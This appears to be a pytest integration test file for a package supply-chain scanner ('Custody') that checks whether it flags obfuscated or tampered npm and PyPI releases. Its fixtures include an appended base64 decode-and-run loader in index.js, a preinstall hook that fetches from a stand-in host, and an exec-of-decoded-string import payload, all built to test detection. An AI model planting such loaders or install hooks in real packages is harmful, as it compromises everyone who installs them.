"""End to end on real local registries: publish, read the histories with Custody's readers,
fetch both artifacts through ``compare_releases`` (integrity-checked) and run the signals."""

from __future__ import annotations

import base64
import dataclasses
import random
from pathlib import Path

import msgspec
import pytest

from custody.content import ArtifactCache, ContentOutcome, compare_releases
from custody.model import Artifact, Ecosystem, PackageHistory, Severity
from custody.registries.facade import make_readers
from custody.registries.settings import NpmSettings, PypiSettings, RegistrySettings
from custody.signals.content import content_findings
from custody.signals.scripts import install_scripts
from tests.content.test_signals import ContentContext, ctx
from tests.registries.conftest import FAST, MemoryCache, run
from tests.support.publish import publish_npm, publish_pypi
from tests.support.servers import Devpi, Verdaccio

pytestmark = pytest.mark.registry

INDEX_JS = b"""'use strict';
const tty = require('tty');

function colour(text, code) {
  return tty.isatty(1) ? `\\u001b[${code}m${text}\\u001b[0m` : text;
}

module.exports = { red: (t) => colour(t, 31), green: (t) => colour(t, 32) };
"""

random.seed(2025)
_BLOB = base64.b64encode(bytes(random.randrange(256) for _ in range(4000))).decode()
# What the chalk/debug 2025 releases looked like: one long minified line at the end of index.js.
PAYLOAD = (
    ";const _0x1=Buffer.from('" + _BLOB + "','base64').toString('utf8');"
    "(function(){try{new Function('require',_0x1)(require)}catch(e){}})();\n"
).encode()


async def _npm(
    verdaccio: Verdaccio, name: str, tmp: Path
) -> tuple[PackageHistory, ContentOutcome, MemoryCache]:
    settings = RegistrySettings(npm=NpmSettings(registry=verdaccio.url, source="test"))
    cache = MemoryCache()
    async with make_readers(settings, cache, options=FAST) as regs:
        reader = regs.readers[Ecosystem.NPM]
        history = await reader.history(name)
        base, cand = history.releases[-2], history.releases[-1]
        outcome = await compare_releases(
            regs.client, base, cand, registry=reader.registry, cache=ArtifactCache(tmp)
        )
    return history, outcome, cache


def _context(history: PackageHistory, outcome: ContentOutcome) -> ContentContext:
    c = ctx(history.releases[-2], history.releases[-1], outcome.comparison, outcome.error)
    return dataclasses.replace(c, history=history)


def test_same_account_appends_a_minified_encoded_blob(verdaccio: Verdaccio, tmp_path: Path) -> None:
    name = "ct-colours"
    publish_npm(
        verdaccio,
        name,
        "5.6.0",
        publisher="ctqix",
        maintainers=["ctqix"],
        files={"index.js": INDEX_JS},
    )
    publish_npm(
        verdaccio, name, "5.6.1", publisher="ctqix", maintainers=["ctqix"],
        files={"index.js": INDEX_JS + PAYLOAD},
    )  # fmt: skip
    history, outcome, cache = run(_npm(verdaccio, name, tmp_path))
    assert outcome.error is None and outcome.comparison is not None
    assert [c.path for c in outcome.comparison.changed] == ["index.js", "package.json"]
    findings = content_findings(outcome.comparison)
    top = findings[0]
    assert top.rule == "content.obfuscated"
    assert top.severity.rank >= Severity.HIGH.rank
    assert top.evidence["file"] == "index.js"
    assert top.evidence["lines"] == [9, 9]
    assert {"appended-code", "minified", "encoded-string"} <= set(top.evidence["kinds"])
    assert "index.js" in top.message and "line 9" in top.message
    # the tarballs bypassed the ledger's HTTP cache and landed in the artifact cache instead
    assert not any(url.endswith(".tgz") for url in cache.entries)
    assert any(tmp_path.rglob("*")), "verified artifacts are kept by digest"
    # the signal over a context the engine would build
    from custody.signals.content import content_obfuscated

    assert content_obfuscated(_context(history, outcome))[0] == top


def test_same_account_adds_a_preinstall(verdaccio: Verdaccio, tmp_path: Path) -> None:
    name = "ct-useragent"
    publish_npm(
        verdaccio,
        name,
        "0.7.28",
        publisher="ctfaisal",
        maintainers=["ctfaisal"],
        files={"index.js": INDEX_JS},
    )
    setup = (
        b"const https = require('https');\n"
        b"https.get('https://example.invalid/jsextension', r => r.pipe(process.stdout));\n"
    )
    publish_npm(
        verdaccio, name, "0.7.29", publisher="ctfaisal", maintainers=["ctfaisal"],
        files={"index.js": INDEX_JS, "preinstall.js": setup},
        scripts={"preinstall": "node preinstall.js"},
    )  # fmt: skip
    history, outcome, _cache = run(_npm(verdaccio, name, tmp_path))
    findings = install_scripts(_context(history, outcome))
    assert [f.rule for f in findings] == ["scripts.install-added"]
    assert findings[0].severity is Severity.HIGH
    assert findings[0].evidence["command"] == "node preinstall.js"
    assert outcome.comparison is not None
    network = content_findings(outcome.comparison)
    assert network[0].evidence["file"] == "preinstall.js"
    assert "install-network" in network[0].evidence["kinds"]
    assert network[0].severity.rank >= Severity.HIGH.rank


def test_integrity_mismatch_is_a_critical_finding(verdaccio: Verdaccio, tmp_path: Path) -> None:
    name = "ct-integrity"
    publish_npm(verdaccio, name, "1.0.0", publisher="ctint", maintainers=["ctint"])
    publish_npm(verdaccio, name, "1.0.1", publisher="ctint", maintainers=["ctint"])

    async def go() -> ContentOutcome:
        settings = RegistrySettings(npm=NpmSettings(registry=verdaccio.url, source="test"))
        async with make_readers(settings, None, options=FAST) as regs:
            reader = regs.readers[Ecosystem.NPM]
            history = await reader.history(name)
            base, cand = history.releases
            bad = msgspec.structs.replace(
                cand.artifacts[0],
                integrity="sha512-" + base64.b64encode(b"\0" * 64).decode(),
                digests={},
            )
            cand = msgspec.structs.replace(cand, artifacts=(bad,))
            return await compare_releases(regs.client, base, cand, registry=reader.registry)

    outcome = run(go())
    assert outcome.comparison is None and outcome.error is not None
    assert outcome.error.rule == "content.integrity-mismatch"
    assert outcome.error.severity is Severity.CRITICAL
    assert outcome.error.evidence["algorithm"] == "sha512"


INDEX = "ctowner/content"


def test_pypi_release_adds_a_dependency_and_code_that_runs_at_import(
    devpi: Devpi, tmp_path: Path
) -> None:
    devpi.create_user("ctowner")
    devpi.create_index(INDEX, acl_upload=["ctowner"])
    pkg = "ct_importer"
    publish_pypi(
        devpi, INDEX, pkg, "1.0", uploader="ctowner", requires_dist=["idna>=3"],
        files={f"{pkg}/__init__.py": b'__version__ = "1.0"\n'},
    )  # fmt: skip
    payload = base64.b64encode(b"import os\nos.system('id')\n" * 20).decode()
    init = f'import base64\n__version__ = "1.1"\nexec(base64.b64decode("{payload}"))\n'.encode()
    publish_pypi(
        devpi, INDEX, pkg, "1.1", uploader="ctowner", requires_dist=["idna>=3", "ct-helper>=0.1"],
        files={f"{pkg}/__init__.py": init},
    )  # fmt: skip

    async def go() -> ContentOutcome:
        settings = RegistrySettings(
            pypi=PypiSettings(index_url=devpi.simple_url(INDEX), source="test")
        )
        async with make_readers(settings, MemoryCache(), options=FAST) as regs:
            reader = regs.readers[Ecosystem.PYPI]
            history = await reader.history(pkg)
            base, cand = history.releases[-2], history.releases[-1]
            assert any(a.digests.get("sha256") for a in cand.artifacts)
            return await compare_releases(
                regs.client, base, cand, registry=reader.registry, cache=ArtifactCache(tmp_path)
            )

    outcome = run(go())
    assert outcome.error is None and outcome.comparison is not None
    assert outcome.comparison.kind == "wheel"
    top = content_findings(outcome.comparison)[0]
    assert top.rule == "content.obfuscated"
    assert top.evidence["file"] == "ct_importer/__init__.py"
    assert top.severity.rank >= Severity.HIGH.rank
    assert "decode-exec" in top.evidence["kinds"]
    assert [f["lines"] for f in top.evidence["flags"] if f["kind"] == "decode-exec"] == [[3, 3]]


def test_artifact_cache_refuses_tampered_entries(tmp_path: Path) -> None:
    import hashlib

    data = b"hello"
    art = Artifact("x.tgz", digests={"sha256": hashlib.sha256(data).hexdigest()})
    cache = ArtifactCache(tmp_path)
    cache.put(art, data)
    assert cache.get(art) == data
    (entry,) = [p for p in tmp_path.rglob("*") if p.is_file()]
    entry.write_bytes(b"evil")
    assert cache.get(art) is None and not entry.exists()
